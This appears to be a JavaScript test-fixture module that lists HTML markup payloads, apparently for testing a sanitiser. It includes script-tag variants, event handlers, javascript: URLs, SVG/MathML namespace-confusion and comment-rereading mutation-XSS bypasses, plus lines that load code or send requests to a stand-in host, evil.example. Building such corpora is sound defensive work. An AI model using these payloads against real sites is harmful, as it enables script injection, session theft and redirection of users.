/**
 * Markup that has run scripts somewhere: the classic cheat sheets, and what was once found in sanitisers (namespaces, tables, comments
 * and raw text that a second reading takes apart differently). Each would set `window.hit`, ask elsewhere, or leave the page.
 */

const RUN = 'window.hit=1';

/** Every handler of its own, on an element that calls it by itself where there is one. */
const HANDLERS = (
  'abort animationend animationiteration animationstart auxclick beforeinput beforematch beforetoggle blur cancel canplay change ' +
  'click close contextmenu copy cuechange cut dblclick drag drop ended error focus focusin formdata gotpointercapture input invalid ' +
  'keydown load loadeddata message mousedown mouseenter mousemove mouseover mouseup paste play pointerdown pointerenter pointerover ' +
  'pointerrawupdate progress reset resize scroll scrollend scrollsnapchange securitypolicyviolation select slotchange submit suspend ' +
  'toggle touchstart transitionend transitionrun unload volumechange webkitanimationstart wheel'
)
  .split(' ')
  .map((name) => `<b on${name}="${RUN}" tabindex=1 style="animation:x 1ms">x</b>`);

const SCRIPTS = [
  `<script >${RUN}</script >`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<script type="importmap">{"imports":{"x":"data:text/javascript,${RUN}"}}</script><script type=module>import "x"</script>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><script xlink:href="data:text/javascript,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<noscript><script>${RUN}</script></noscript>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<div><template shadowroot=open><img src=x onerror=${RUN}></template></div>`,
];

const LOADERS = [
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror=${RUN}//`,
  `<img src=x:x onerror="${RUN}" alt='>`,
  `<image src=x onerror="${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img srcset="x 1x" onerror=${RUN}>`,
  `<img src="javascript:${RUN}">`,
  `<img dynsrc="javascript:${RUN}">`,
  `<img lowsrc="javascript:${RUN}">`,
  `<picture><source srcset="javascript:${RUN}"><img onerror=${RUN} src=x></picture>`,
  `<picture><source srcset="//evil.example/x.png"><img src="//evil.example/y.png"></picture>`,
  `<video src=x onerror=${RUN}>`,
  `<video poster=javascript:${RUN}//>`,
  `<audio src=x onerror=${RUN}>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>">`,
  `<object type="text/x-scriptlet" data="https://evil.example/x">`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`,
  `<applet code="javascript:${RUN}">`,
  `<iframe srcdoc='&lt;script&gt;parent.${RUN}&lt;/script&gt;'>`,
  `<iframe src="data:text/html,<script>parent.${RUN}</script>">`,
  `<iframe onload=${RUN}>`,
  `<frameset onload=${RUN}><frame src="javascript:parent.${RUN}"></frameset>`,
  `<portal src="https://evil.example/">`,
  `<fencedframe src="https://evil.example/">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<link rel=prefetch href=//evil.example/x>`,
  `<link rel=preconnect href=//evil.example>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<b style="background:url(//evil.example/x)">x</b>`,
  `<b style="behavior:url(#default#time2);width:expression(${RUN})">x</b>`,
  `<table background="//evil.example/x"><td background="javascript:${RUN}">`,
  `<body background="//evil.example/x">`,
  `<input type=image src=x onerror=${RUN}>`,
  `<bgsound src="javascript:${RUN}">`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x`,
  `<textarea autofocus onfocus=${RUN}>x`,
  `<button autofocus onfocus=${RUN} popovertarget=x>x</button>`,
  `<x contenteditable onblur=${RUN} autofocus tabindex=1>x`,
  `<x-evil onclick=${RUN}>x</x-evil>`,
  `<b is=x-evil onclick=${RUN}>x</b>`,
];

const LINKS = [
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="jav&NewLine;ascript:${RUN}">x</a>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `<a href="&#106;&#97;vascript:${RUN}">x</a>`,
  `<a href="&#x6A avascript:${RUN}">x</a>`,
  `<a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=">x</a>`,
  `<a href="/x" ping="//evil.example/x">x</a>`,
  `<a href="//evil.example" target=_self>x</a>`,
  `<a href="/&sol;evil.example">x</a>`,
  `<a href="/&Tab;/evil.example">x</a>`,
  `<a href="\\\\evil.example">x</a>`,
  `<area href="javascript:${RUN}">`,
  `<map name=x><area shape=default href="javascript:${RUN}"></map>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`,
  `<button type=submit formaction=//evil.example/x>x</button>`,
  `<input type=hidden oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">`,
  `<meta name=referrer content=unsafe-url>`,
  `<base href="javascript:/a/-${RUN}//"><a href=".">x</a>`,
  `<base target=_blank>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<dialog open onclose=${RUN}><form method=dialog></form></dialog>`,
];

const NAMESPACES = [
  `<svg/onload=${RUN}>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=1 y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
  `<svg><image href=x onerror=${RUN}></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<svg><desc><table><title><style><img src=x onerror=${RUN}></style></title></table></desc></svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='${RUN}'>">`,
  `<svg><mtext><style><b id="</style><img src=x onerror=${RUN}>"></b></style></mtext></svg>`,
];

const REREADING = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>">`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?x <img src=x onerror=${RUN}> ?>`,
  `<!DOCTYPE x [<!ENTITY x "<img src=x onerror=${RUN}>">]>&x;`,
  `<b title='"><img src=x onerror=${RUN}>'>x</b>`,
  `<b title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">x</b>`,
  `<b title=\`\`onmouseover=${RUN}\`>x</b>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `<table><tr><td><style></table><img src=x onerror=${RUN}></style>`,
  `<a id=x><a id=x name=hit href="https://evil.example/">x</a></a>`,
  `<form id=hyperedge><input name=loaded></form>`,
  `<img name=adoptedStyleSheets><form name=querySelectorAll><input id=attributes></form>`,
  `<p data-hyperedge="p0" data-hyperedge-part="go">x</p>`,
  `${'<b>'.repeat(600)}<img src=x onerror=${RUN}>`,
  `<img src=x onerror\u0000=${RUN}>`,
  `<\u0000script>${RUN}</script>`,
  `<\uFF1Cscript>${RUN}`,
];

export const MORE_MARKUP: readonly string[] = [
  ...HANDLERS,
  ...SCRIPTS,
  ...LOADERS,
  ...LINKS,
  ...NAMESPACES,
  ...REREADING,
];

/** Selectors and class names that are more than that, and sets of images with something else in them. */
export const NAMES: readonly string[] = [
  'script',
  'body',
  'head > *',
  'a"onclick="x',
  '*{}</style><script>window.hit=1</script>',
  'a\u0000b',
  ':is(((((',
  '[onclick]',
  '/a 1x, javascript:window.hit=1 2x',
  '/a 1x, //evil.example/b 2x',
  'data:image/svg+xml,<svg onload=window.hit=1> 1x',
  'https://evil.example/a.png\t1x',
  '__proto__',
  'constructor',
];
